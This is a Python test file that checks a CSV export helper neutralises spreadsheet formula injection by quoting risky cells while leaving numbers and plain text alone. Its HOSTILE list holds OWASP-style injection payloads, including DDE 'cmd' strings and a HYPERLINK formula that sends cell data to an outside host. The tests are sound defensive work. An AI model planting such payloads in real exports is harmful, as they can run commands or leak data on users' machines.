"""What a spreadsheet would run is a text; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from geo_service.core.csv_text import as_words, csv_parts

#: Cells that spreadsheets run (OWASP, CSV Injection), some with the signs of wide keyboards.
HOSTILE = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", "|calc", "%0A=1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("http://example.org?x="&A1,"ดูที่นี่")',
)  # fmt: skip


def read(*rows, headings=("a", "b")):
    text = "".join(csv_parts(headings, [rows], is_sample=False))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_text_that_begins_like_a_formula_is_kept_from_being_one(cell):
    (heading, row) = read([cell, [cell, "x"]], headings=(cell, "b"))
    assert row == [f"'{cell}", f"'{cell};x"]
    assert heading[0] == f"'{cell}"


def test_numbers_and_negatives_are_untouched():
    (_, *rows) = read([-5, -0.25], [0, 1e-9], [None, 12_500.0], [True, 7])
    assert rows == [["-5", "-0.25"], ["0", "1e-09"], ["", "12500.0"], ["True", "7"]]


@pytest.mark.parametrize("text", ["อบต.ท่าช้าง", "", "a=b", "1-2", "(-5)", "'=1"])
def test_other_texts_are_untouched(text):
    assert as_words(text) == text
